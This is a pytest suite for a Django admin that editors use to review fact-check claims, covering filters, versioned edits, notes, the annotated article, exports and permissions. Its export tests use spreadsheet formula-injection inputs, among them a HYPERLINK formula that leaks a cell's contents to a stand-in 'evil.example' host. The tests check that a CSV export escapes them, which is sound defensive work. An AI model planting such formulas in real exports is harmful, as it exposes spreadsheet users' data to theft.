"""The editor's workspace in the admin: list, review on the claim page, no lost edits,
the annotated article, notes, evidence, history, export and permissions."""

import csv
import io
import itertools
import json
import re

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse

from claims.models import Claim, Evidence, ReviewNote
from tests.factories import ClaimFactory, EvidenceFactory, ReviewNoteFactory, SourceFactory, UserFactory

pytestmark = pytest.mark.django_db
CHANGELIST = "/admin/claims/claim/"


def change_url(claim) -> str:
    return reverse("admin:claims_claim_change", args=[claim.pk])


def change_form(claim, **fields) -> dict:
    """The claim page's POST, as the browser sends it unchanged."""
    data = {
        "span_start": claim.span_start,
        "span_end": claim.span_end,
        "quote": claim.quote,
        "statement": claim.statement,
        "kind": claim.kind,
        "subject": claim.subject,
        "value": "" if claim.value is None else str(claim.value),
        "unit": claim.unit,
        "qualifier": claim.qualifier,
        "as_of": "",
        "as_of_precision": "",
        "new_status": "",
        "transition_note": "",
        "expected_version": claim.version,
        "evidence-TOTAL_FORMS": "0",
        "evidence-INITIAL_FORMS": "0",
        "notes-TOTAL_FORMS": "0",
        "notes-INITIAL_FORMS": "0",
    }
    data.update(fields)
    return data


def messages_of(response) -> list[str]:
    return [str(m) for m in response.context["messages"]]


# -- the list -------------------------------------------------------------------------------


def test_the_list_shows_status_badges_value_and_unit(editor_client, demo):
    response = editor_client.get(CHANGELIST, {"status__exact": "disputed"})
    html = response.content.decode()
    assert response.status_code == 200
    assert html.count('<span class="cb-badge cb-disputed">Disputed</span>') == 27  # 17 in the seed article
    assert "50000000000 USD" in html
    assert "27 claims" in html


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"has_evidence": "yes"}, lambda c: c.evidence.exists()),
        ({"has_evidence": "no"}, lambda c: not c.evidence.exists()),
        ({"origin__exact": "extractor"}, lambda c: c.origin == "extractor"),
        ({"unit__exact": "km"}, lambda c: c.unit == "km"),
        (
            {"reviewed_by": "__m.alvarez__"},
            lambda c: c.reviewed_by is not None and c.reviewed_by.username == "m.alvarez",
        ),
        ({"q": "petroleum"}, lambda c: "petroleum" in (c.quote + c.statement + c.subject).lower()),
    ],
)
def test_list_filters_and_search_select_the_right_claims(editor_client, demo, params, expected):
    from django.contrib.auth import get_user_model

    if params.get("reviewed_by") == "__m.alvarez__":
        params = {"reviewed_by": get_user_model().objects.get(username="m.alvarez").pk}
    response = editor_client.get(CHANGELIST, {**params, "all": ""})
    shown = set(response.context["cl"].result_list.values_list("pk", flat=True))
    assert shown == {c.pk for c in Claim.objects.all() if expected(c)}
    assert shown


def test_extractor_candidates_are_listed_with_their_confidence(editor_client):
    ClaimFactory(origin="extractor", confidence=0.9)
    response = editor_client.get(CHANGELIST, {"origin__exact": "extractor"})
    assert "Extractor (0.90)" in response.content.decode()


def test_the_list_costs_the_same_number_of_queries_at_10_and_200_claims(
    editor_client, django_assert_max_num_queries, django_assert_num_queries
):
    source = SourceFactory(text="word " * 1000)
    reviewer = UserFactory(username="m.alvarez")

    def add(count):
        start = Claim.objects.count()
        for i in range(start, start + count):
            claim = ClaimFactory(source=source, span_start=i * 5, span_end=i * 5 + 4, kind="factual", value=None,
                                 unit="", status="verified", reviewed_by=reviewer)  # fmt: skip
            EvidenceFactory(claim=claim)

    add(10)
    with django_assert_max_num_queries(12) as at_10:
        response = editor_client.get(CHANGELIST, {"all": ""})
    assert response.status_code == 200
    assert len(response.context["cl"].result_list) == 10
    add(190)
    with django_assert_num_queries(len(at_10)):
        response = editor_client.get(CHANGELIST, {"all": ""})
    assert response.status_code == 200
    assert len(response.context["cl"].result_list) == 200


# -- the claim page: review, no lost edits ------------------------------------------------


def test_a_verdict_without_evidence_or_note_is_refused_on_the_claim_page(editor_client):
    claim = ClaimFactory(status="in_review")
    response = editor_client.post(change_url(claim), change_form(claim, new_status="verified"))
    assert response.status_code == 200
    assert response.context["adminform"].form.errors == {
        "new_status": [
            "Marking a claim verified needs at least one evidence item or a note explaining why there is none."
        ]
    }
    claim.refresh_from_db()
    assert claim.status == "in_review"


def test_adding_evidence_and_marking_verified_in_one_save_signs_the_review(editor_client, editor):
    claim = ClaimFactory(status="in_review")
    response = editor_client.post(
        change_url(claim),
        change_form(
            claim,
            new_status="verified",
            **{
                "evidence-TOTAL_FORMS": "1",
                "evidence-0-url": "https://www.mod.go.jp/en/d_act/d_budget/index.html",
                "evidence-0-title": "Defense Programs and Budget of Japan",
                "evidence-0-stance": "supports",
                "evidence-0-retrieved_on": "2019-09-13",
                "evidence-0-value_found": "48500000000",
            },
        ),
    )
    assert response.status_code == 302, response.context["adminform"].form.errors
    claim.refresh_from_db()
    assert (claim.status, claim.reviewed_by) == ("verified", editor)
    assert claim.reviewed_at is not None
    assert Evidence.objects.get().added_by == editor
    assert claim.version == 2  # one save, one new version and one history row, status included
    assert list(claim.history.values_list("version", "status")) == [(2, "verified"), (1, "in_review")]


def test_a_second_editor_saving_an_old_copy_is_told_who_changed_it_and_nothing_is_overwritten(client, editor):
    colleague = UserFactory(username="m.alvarez")
    colleague.groups.add(Group.objects.get(name="Editors"))
    claim = ClaimFactory()
    opened = change_form(claim)  # both editors open version 1
    client.force_login(colleague)
    assert client.post(change_url(claim), {**opened, "subject": "Japanese cabinet"}).status_code == 302
    client.force_login(editor)
    response = client.post(change_url(claim), {**opened, "statement": "My older edit."})
    assert response.status_code == 200
    assert response.context["adminform"].form.non_field_errors() == [
        f"m.alvarez changed claim {claim.pk} since you read it (it is now at version 2, you had version 1). "
        "Nothing was saved: reload the claim to see their changes, then apply yours."
    ]
    claim.refresh_from_db()
    assert (claim.subject, claim.statement, claim.version) == ("Japanese cabinet", ClaimFactory.statement, 2)


def test_notes_are_append_only_with_author_and_time_set(editor_client, editor):
    claim = ClaimFactory()
    old = ReviewNoteFactory(claim=claim, body="Original note.")
    response = editor_client.post(
        change_url(claim),
        change_form(
            claim,
            **{
                "notes-TOTAL_FORMS": "2",
                "notes-INITIAL_FORMS": "1",
                "notes-0-id": old.pk,
                "notes-0-claim": claim.pk,
                "notes-0-body": "Tampered with.",
                "notes-1-body": "Asked the ministry for the request papers.",
            },
        ),
    )
    assert response.status_code == 302
    old.refresh_from_db()
    assert old.body == "Original note."
    new = ReviewNote.objects.exclude(pk=old.pk).get()
    assert (new.body, new.author) == ("Asked the ministry for the request papers.", editor)
    page = editor_client.get(change_url(claim)).content.decode()
    assert 'name="notes-0-body"' not in page  # the existing note is shown read-only


def test_reviewer_and_review_time_cannot_be_typed(editor_client):
    claim = ClaimFactory()
    other = UserFactory(username="intruder")
    editor_client.post(change_url(claim), change_form(claim, reviewed_by=other.pk, reviewed_at="2001-01-01 00:00"))
    claim.refresh_from_db()
    assert (claim.reviewed_by, claim.reviewed_at) == (None, None)


def test_the_history_page_lists_who_changed_which_field(editor_client):
    claim = ClaimFactory()
    editor_client.post(change_url(claim), change_form(claim, subject="Japanese cabinet"))
    page = editor_client.get(reverse("admin:claims_claim_history", args=[claim.pk])).content.decode()
    assert "editor" in page
    assert "subject" in page.lower()
    assert "Japanese cabinet" in page


# -- the annotated article -----------------------------------------------------------------


def test_the_annotated_article_holds_the_text_exactly_with_every_claim_linked(editor_client, demo):
    response = editor_client.get(reverse("admin:claims_source_annotated", args=[demo.pk]))
    assert response.status_code == 200
    html = response.content.decode()
    article = re.search(r'<article id="cb-article"[^>]*>(.*)</article>', html, re.S).group(1)
    import html as html_lib

    assert html_lib.unescape(re.sub(r"<[^>]+>", "", article)) == demo.text
    linked = {int(pk) for pk in re.findall(r'data-claim="(\d+)"', article)}
    # every claim is reachable from its highlight unless a longer claim around it hides... none here:
    assert linked <= set(demo.claims.values_list("pk", flat=True))
    assert len(linked) >= 100
    for status, label, count in response.context["legend"]:
        assert count == demo.claims.filter(status=status).count()
        assert f"{label}: {count}" in html
    assert 'id="cb-new-claim"' in html


def claims_on_every_word(source, count: int, statuses=tuple(Claim.Status)) -> list[Claim]:
    """``count`` claims on ``source``: single words, each nested in a two-word claim that
    overlaps the next, statuses taken in turn."""
    words = [m.span() for m in re.finditer(r"\w+", source.text)]
    spans_wanted = []
    for (start, end), (_, after) in itertools.pairwise(words):
        spans_wanted += [(start, end), (start, after)]
    claims = [
        ClaimFactory(
            source=source,
            span_start=start,
            span_end=end,
            kind=Claim.Kind.FACTUAL,
            value=None,
            unit="",
            qualifier="",
            statement=f"Claim {number} <on> {source.text[start:end]!r} & more",
            status=statuses[number % len(statuses)],
        )
        for number, (start, end) in enumerate(spans_wanted[:count])
    ]
    assert len(claims) == count
    return claims


@pytest.mark.parametrize("count", [3, 150])
def test_the_annotated_article_makes_as_many_queries_for_150_claims_as_for_3(
    editor_client, django_assert_max_num_queries, count
):
    source = SourceFactory(text=" ".join(f"word{n}" for n in range(100)) + ".")
    claims = claims_on_every_word(source, count)
    with django_assert_max_num_queries(8):
        response = editor_client.get(reverse("admin:claims_source_annotated", args=[source.pk]))
    assert response.status_code == 200
    # every word and every gap between two words is a piece, so every claim has one to open it
    assert {int(pk) for pk in re.findall(r'data-claim="(\d+)"', response.content.decode())} == {c.pk for c in claims}


def test_the_annotated_article_marks_each_piece_with_its_innermost_claim_escaped(editor_client):
    source = SourceFactory(text='Japan & "Korea" <met> in Seoul.')
    word, pair, seoul = (
        ClaimFactory(source=source, span_start=start, span_end=end, kind=Claim.Kind.FACTUAL, value=None, unit="",
                     qualifier="", statement=statement, status=status)
        for start, end, statement, status in [
            (8, 15, 'Korea "met"', Claim.Status.VERIFIED),
            (0, 21, "Japan & Korea <met>", Claim.Status.DISPUTED),
            (25, 30, "Seoul", Claim.Status.UNREVIEWED),
        ]
    )  # fmt: skip
    response = editor_client.get(reverse("admin:claims_source_annotated", args=[source.pk]))
    article = re.search(r'<article id="cb-article"[^>]*>(.*)</article>', response.content.decode(), re.S).group(1)

    def mark(claim, title, text, overlap=""):
        return (
            f'<a class="cb-mark cb-{claim.status}{overlap}" href="/admin/claims/claim/{claim.pk}/change/" '
            f'data-claim="{claim.pk}" title="{title}">{text}</a>'
        )

    assert article == (
        mark(pair, "Japan &amp; Korea &lt;met&gt; (Disputed)", "Japan &amp; ")
        + mark(word, "Korea &quot;met&quot; (Verified)", "&quot;Korea&quot;", " cb-overlap")
        + mark(pair, "Japan &amp; Korea &lt;met&gt; (Disputed)", " &lt;met&gt;")
        + " in "
        + mark(seoul, "Seoul (Unreviewed)", "Seoul")
        + "."
    )


def test_readers_see_the_annotated_article_without_the_new_claim_button(client, demo):
    reader = UserFactory(username="reader")
    reader.groups.add(Group.objects.get(name="Readers"))
    client.force_login(reader)
    response = client.get(reverse("admin:claims_source_annotated", args=[demo.pk]))
    assert response.status_code == 200
    assert 'id="cb-new-claim"' not in response.content.decode()


def test_anonymous_visitors_are_sent_to_the_login_page(client, demo):
    response = client.get(reverse("admin:claims_source_annotated", args=[demo.pk]))
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


def test_staff_without_view_permission_cannot_read_the_annotated_article(client, demo):
    client.force_login(UserFactory(username="staff-only"))
    assert client.get(reverse("admin:claims_source_annotated", args=[demo.pk])).status_code == 403


def test_a_selection_after_an_emoji_prefills_the_add_form_in_code_points(editor_client):
    source = SourceFactory(text="\U0001f389 Party: Japan approved $50 billion.")
    # the browser counts the emoji as 2 UTF-16 units: "Japan" starts at unit 10, code point 9
    response = editor_client.get(
        reverse("admin:claims_claim_add"), {"source": source.pk, "utf16_start": 10, "utf16_end": 15}
    )
    form = response.context["adminform"].form
    assert (form.initial["span_start"], form.initial["span_end"], form.initial["quote"]) == (9, 14, "Japan")


def test_a_selection_splitting_an_emoji_is_refused_with_a_message(editor_client):
    source = SourceFactory(text="\U0001f389 Party")
    response = editor_client.get(
        reverse("admin:claims_claim_add"), {"source": source.pk, "utf16_start": 1, "utf16_end": 5}
    )
    assert messages_of(response) == [
        "The selection could not be used: span_start 1 falls between the two UTF-16 halves of U+1F389."
    ]
    assert "span_start" not in response.context["adminform"].form.initial


# -- export, permissions --------------------------------------------------------------------


@pytest.mark.parametrize(("file_format", "name"), [("0", "csv"), ("1", "json")])
def test_selected_claims_export_as_csv_and_json(editor_client, demo, file_format, name):
    selected = list(demo.claims.filter(status="verified").values_list("pk", flat=True)[:3])
    form = editor_client.post(CHANGELIST, {"action": "export_admin_action", "_selected_action": selected})
    assert f'<option value="{file_format}">{name}</option>' in form.content.decode()
    columns = ["id", "quote", "value", "unit", "status", "source_url"]
    response = editor_client.post(
        "/admin/claims/claim/export/",
        {"format": file_format, "resource": "0", "export_items": selected,
         **{f"claimresource_{column}": "on" for column in columns}},
    )  # fmt: skip
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'.{name}"')
    body = response.content.decode()
    rows = list(csv.DictReader(io.StringIO(body))) if name == "csv" else json.loads(body)
    assert sorted(int(row["id"]) for row in rows) == sorted(selected)
    assert {row["status"] for row in rows} == {"verified"}
    assert {row["source_url"] for row in rows} == {demo.url}
    assert set(rows[0]) == set(columns)


FORMULA_TEXT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click") costs -5'


@pytest.fixture
def formula_claim(db):
    """A claim whose quote, statement, subject and reviewer would each run as a formula
    in a spreadsheet, with a negative value."""
    source = SourceFactory(text=f"Intro. {FORMULA_TEXT} and more.", url="https://news.example/formula")
    start = source.text.index(FORMULA_TEXT)
    return ClaimFactory(
        source=source, span_start=start, span_end=start + len(FORMULA_TEXT), statement="-1+2",
        subject="@SUM(A1:A9)", value=-5, unit=Claim.Unit.COUNT, reviewed_by=UserFactory(username="+cmd"),
    )  # fmt: skip


def export(client, claim, file_format: str, columns: list[str]) -> str:
    response = client.post(
        "/admin/claims/claim/export/",
        {"format": file_format, "resource": "0", "export_items": [claim.pk],
         **{f"claimresource_{column}": "on" for column in columns}},
    )  # fmt: skip
    assert response.status_code == 200
    return response.content.decode()


FORMULA_COLUMNS = ["id", "quote", "statement", "subject", "value", "reviewed_by", "version"]


def test_a_csv_export_escapes_text_cells_a_spreadsheet_would_run_and_keeps_numbers(editor_client, formula_claim):
    body = export(editor_client, formula_claim, "0", FORMULA_COLUMNS)
    assert list(csv.DictReader(io.StringIO(body))) == [
        {
            "id": str(formula_claim.pk),
            "quote": "'" + FORMULA_TEXT,
            "statement": "'-1+2",
            "subject": "'@SUM(A1:A9)",
            "value": "-5.000000",
            "reviewed_by": "'+cmd",
            "version": "1",
        }
    ]


def test_a_json_export_is_read_by_programs_and_keeps_the_text_as_stored(editor_client, formula_claim):
    body = export(editor_client, formula_claim, "1", FORMULA_COLUMNS)
    assert json.loads(body) == [
        {
            "id": str(formula_claim.pk),
            "quote": FORMULA_TEXT,
            "statement": "-1+2",
            "subject": "@SUM(A1:A9)",
            "value": "-5.000000",
            "reviewed_by": "+cmd",
            "version": "1",
        }
    ]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("'=already", "'=already"),
        ("1=1", "1=1"),
        (" =A1", " =A1"),
        ("", ""),
    ],
)
def test_the_formula_rule_prefixes_exactly_the_cells_that_start_a_formula(text, cell):
    from claims.exports import escape_formula

    assert escape_formula(text) == cell
    assert escape_formula(-5) == -5


def test_every_format_a_spreadsheet_opens_escapes_and_native_numbers_stay_numbers(formula_claim):
    """XLSX and ODS get native values (force_native_type): the value stays a number there too."""
    from decimal import Decimal

    from import_export.formats import base_formats

    from claims.exports import ClaimResource, opens_as_cells

    assert [opens_as_cells(f) for f in (base_formats.CSV, base_formats.TSV, base_formats.XLSX, base_formats.XLS,
                                        base_formats.ODS, base_formats.HTML)] == [True] * 6  # fmt: skip
    assert [opens_as_cells(f()) for f in (base_formats.JSON, base_formats.YAML)] == [False, False]
    queryset = Claim.objects.filter(pk=formula_claim.pk)
    native = ClaimResource().export(queryset, force_native_type=True).dict[0]
    assert (native["statement"], native["subject"], native["value"]) == ("'-1+2", "'@SUM(A1:A9)", Decimal("-5"))
    tsv = base_formats.TSV().export_data(ClaimResource().export(queryset))
    assert "\t'-1+2\t" in tsv
    assert "\t-5.000000\t" in tsv


def test_readers_get_no_write_buttons_and_their_direct_post_is_refused(client, demo):
    reader = UserFactory(username="reader")
    reader.groups.add(Group.objects.get(name="Readers"))
    client.force_login(reader)
    claim = demo.claims.filter(status="in_review").first()
    page = client.get(change_url(claim)).content.decode()
    assert 'name="_save"' not in page
    assert client.get(reverse("admin:claims_claim_add")).status_code == 403
    response = client.post(change_url(claim), change_form(claim, subject="Reader was here"))
    assert response.status_code == 403
    claim.refresh_from_db()
    assert claim.subject != "Reader was here"


# -- no lost edits, no silent deletes ---------------------------------------------------------


@pytest.mark.parametrize("version", [None, ""], ids=["field missing", "field empty"])
def test_a_change_form_posted_without_its_version_is_refused_and_saves_nothing(editor_client, version):
    claim = ClaimFactory(status="in_review")
    form = change_form(claim, statement="Saved over whatever is there now.")
    if version is None:
        del form["expected_version"]
    else:
        form["expected_version"] = version
    response = editor_client.post(change_url(claim), form)
    assert response.status_code == 200
    assert response.context["adminform"].form.non_field_errors() == [
        "This page is out of date: it was sent without the version of the claim it shows, so a colleague's change "
        "could be overwritten. Nothing was saved: reload the page, then apply your change again."
    ]
    fresh = Claim.objects.get(pk=claim.pk)
    assert (fresh.statement, fresh.version, fresh.history.count()) == (claim.statement, 1, 1)


def record_of(claim) -> tuple:
    return (Claim.objects.filter(pk=claim.pk).exists(), claim.notes.count(), claim.evidence.count())


def test_the_admin_delete_page_refuses_a_claim_with_a_verdict_and_deletes_nothing(editor_client, editor):
    from django.utils import timezone

    claim = ClaimFactory(status="verified", reviewed_at=timezone.now())
    ReviewNoteFactory(claim=claim, author=editor)
    EvidenceFactory(claim=claim)
    url = reverse("admin:claims_claim_delete", args=[claim.pk])
    message = (
        f"Claim {claim.pk} is verified and has 1 note and has 1 evidence item: that record is kept, so the claim "
        "cannot be deleted. Dismiss it instead: reopen it for review, then dismiss it. Nothing was deleted."
    )
    for response in (editor_client.get(url, follow=True), editor_client.post(url, {"post": "yes"}, follow=True)):
        assert response.redirect_chain == [(change_url(claim), 302)]
        assert messages_of(response) == [message]
    assert record_of(claim) == (True, 1, 1)


def test_the_bulk_delete_refuses_when_any_selected_claim_has_a_record_and_deletes_nothing(editor_client, editor):
    source = SourceFactory()
    candidate = ClaimFactory(source=source)
    noted = ClaimFactory(source=source, span_start=0, span_end=6, kind="factual", value=None, unit="",
                         status="in_review")  # fmt: skip
    ReviewNoteFactory(claim=noted, author=editor)
    selected = {"action": "delete_selected", "_selected_action": [candidate.pk, noted.pk]}
    for data in (selected, {**selected, "post": "yes"}):  # the confirmation page, then the confirmed post
        response = editor_client.post(CHANGELIST, data, follow=True)
        assert messages_of(response) == [
            f"Claim {noted.pk} has 1 note: that record is kept, so the claim cannot be deleted. Dismiss it instead. "
            "Nothing was deleted."
        ]
    assert record_of(candidate) == (True, 0, 0)
    assert record_of(noted) == (True, 1, 0)


def test_the_bulk_delete_still_removes_mistaken_selections(editor_client):
    source = SourceFactory()
    claims = [ClaimFactory(source=source), ClaimFactory(source=source, span_start=0, span_end=6, kind="factual",
                                                        value=None, unit="", status="dismissed")]  # fmt: skip
    selected = {"action": "delete_selected", "_selected_action": [claim.pk for claim in claims]}
    response = editor_client.post(CHANGELIST, selected)
    assert response.status_code == 200  # Django's confirmation page
    assert "Are you sure" in response.content.decode()
    response = editor_client.post(CHANGELIST, {**selected, "post": "yes"}, follow=True)
    assert messages_of(response) == ["Successfully deleted 2 claims."]
    assert not Claim.objects.exists()


# -- garbage in the list's query string and the add form's ---------------------------------


@pytest.mark.parametrize("value", ["abc", "99999999999999999999", "1.5"])
def test_a_reviewer_filter_that_is_no_user_id_is_the_admins_invalid_lookup_answer(editor_client, value):
    response = editor_client.get(CHANGELIST, {"reviewed_by": value})
    assert (response.status_code, response["Location"]) == (302, f"{CHANGELIST}?e=1")


def test_a_nul_in_a_filter_shows_the_whole_list_with_a_message(editor_client):
    response = editor_client.get(CHANGELIST + "?status__exact=%00", follow=True)
    assert response.redirect_chain == [(CHANGELIST, 302)]
    assert messages_of(response) == ["Filters and searches cannot contain NUL characters; showing all claims."]


def test_a_search_of_too_many_words_searches_nothing_and_says_why(editor_client):
    ClaimFactory(subject="Japan")
    response = editor_client.get(CHANGELIST, {"q": " ".join(["Japan"] * 33)})
    assert response.status_code == 200
    assert messages_of(response) == ["Search for at most 32 words (this has 33). Nothing was searched."]
    assert list(response.context["cl"].result_list) == []
    response = editor_client.get(CHANGELIST, {"q": " ".join(["Japan"] * 32)})
    assert len(response.context["cl"].result_list) == 1


@pytest.mark.parametrize("source", ["abc", "%00", "99999999999999999999", "-1"])
def test_an_add_form_link_naming_no_source_opens_an_empty_form_with_a_message(editor_client, source):
    response = editor_client.get(f"/admin/claims/claim/add/?source={source}&utf16_start=0&utf16_end=5")
    assert response.status_code == 200
    shown = source.replace("%00", "\x00")
    assert messages_of(response) == [f"The selection could not be used: there is no source {shown!r}."]
    assert "span_start" not in response.context["adminform"].form.initial
